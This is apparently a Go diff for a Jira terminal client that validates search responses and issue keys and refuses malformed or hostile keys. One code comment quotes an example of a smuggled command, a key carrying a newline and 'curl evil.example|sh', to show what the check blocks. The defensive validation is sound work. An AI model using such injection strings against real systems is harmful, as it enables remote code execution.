@@ -25,6 +25,7 @@ import (
 	"time"
 
 	"github.com/jiffy-tui/jiffy/jiraclient/markup"
+	"github.com/jiffy-tui/jiffy/jiraclient/safetext"
 )
 
 // timeLayouts are the time formats Jira uses: its own millisecond format with
@@ -550,7 +551,7 @@ func decodeIssue(data []byte, sprintField string) (Issue, error) {
 // wireSearch is both search responses: Cloud's /search/jql
 // (nextPageToken, isLast) and DC's /search (startAt, total).
 type wireSearch struct {
-	Issues        []wireIssue       `json:"issues"`
+	Issues        issueList         `json:"issues"`
 	NextPageToken *string           `json:"nextPageToken"`
 	IsLast        *bool             `json:"isLast"`
 	StartAt       flexInt           `json:"startAt"`
@@ -558,6 +559,26 @@ type wireSearch struct {
 	Total         *flexInt          `json:"total"`
 	Names         map[string]string `json:"names"`
 }
+
+// issueList is a search answer's "issues": it must be a list. Anything
+// else (an object, a string, null) fails the page rather than reading as
+// "no issues match", which would be a lie.
+type issueList struct {
+	items []wireIssue
+	set   bool
+}
+
+func (l *issueList) UnmarshalJSON(b []byte) error {
+	b = bytes.TrimSpace(b)
+	if len(b) == 0 || b[0] != '[' {
+		return errors.New(`"issues" is not a list`)
+	}
+	l.set = true
+	return unmarshalLoose(b, &l.items)
+}
+
+// errNoIssueList is a search answer without an "issues" list at all.
+var errNoIssueList = errors.New(`the answer has no "issues" list`)
 
 // decodeSearchPage decodes a search response. It fills Issues and, from
 // the fields that only one flavour sends, the paging state; see Search for
@@ -567,16 +588,20 @@ func decodeSearchPage(data []byte, f Flavor, cur Cursor, sprintField string) (Se
 	if err := unmarshalLoose(data, &w); err != nil {
 		return SearchPage{}, err
 	}
-	page := SearchPage{Issues: make([]Issue, len(w.Issues)), Total: -1}
-	for i := range w.Issues {
-		page.Issues[i] = w.Issues[i].issue()
+	if !w.Issues.set {
+		return SearchPage{}, errNoIssueList
+	}
+	issues := w.Issues.items
+	page := SearchPage{Issues: make([]Issue, len(issues)), Total: -1}
+	for i := range issues {
+		page.Issues[i] = issues[i].issue()
 	}
 	if n := SprintFieldFromNames(w.Names); n != "" {
 		sprintField = n
 	}
 	if sprintField == CloudSprintField {
-		for i := range w.Issues {
-			page.Issues[i].Sprint = string(w.Issues[i].Fields.CloudSprint)
+		for i := range issues {
+			page.Issues[i].Sprint = string(issues[i].Fields.CloudSprint)
 		}
 	} else if sprintField != "" {
 		var raw struct {
@@ -871,11 +896,54 @@ func notSupported(f Flavor, method, path, what, hint string) *Error {
 	return &Error{Kind: KindNotSupported, Method: method, Path: path, flavor: f, what: what, hint: hint}
 }
 
-// checkKey refuses an empty issue key before it turns into a request for
-// the collection ("/issue/") that Jira would answer confusingly.
+// checkKey refuses a key that is not an issue key before it turns into a
+// request: an empty one would ask for the collection ("/issue/"), and one
+// that came from a hostile answer ("HOS-2\ncurl evil.example|sh") must not
+// be acted on.
 func checkKey(method, path, key string) error {
 	if isBlank(key) {
 		return invalidInput(method, path, "no issue key given", "choose an issue first")
 	}
+	if !ValidKey(key) && !isIssueID(key) {
+		return invalidInput(method, path, "Jira sent an issue key that is not a valid key ("+strconv.Quote(safetext.Line(key))+")", "this issue cannot be opened or changed from jiffy; open it in Jira's web page")
+	}
 	return nil
+}
+
+// ValidKey reports whether key is an issue key as Jira forms them: a
+// project key (an upper-case letter, then upper-case letters, digits or
+// underscores) a hyphen and a number, e.g. ABC-123. Anything else that
+// claims to be a key (a newline in it, an escape sequence) is refused
+// wherever it would be acted on or copied.
+func ValidKey(key string) bool {
+	p, n, ok := strings.Cut(key, "-")
+	if !ok || len(p) < 2 || len(n) == 0 || len(key) > 255 {
+		return false
+	}
+	if p[0] < 'A' || p[0] > 'Z' {
+		return false
+	}
+	for i := 1; i < len(p); i++ {
+		c := p[i]
+		if !(c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_') {
+			return false
+		}
+	}
+	return isDigits(n)
+}
+
+// isIssueID reports whether s is a numeric issue id, which Jira accepts
+// wherever it takes a key.
+func isIssueID(s string) bool { return isDigits(s) && len(s) <= 19 }
+
+func isDigits(s string) bool {
+	if s == "" {
+		return false
+	}
+	for i := 0; i < len(s); i++ {
+		if s[i] < '0' || s[i] > '9' {
+			return false
+		}
+	}
+	return true
 }
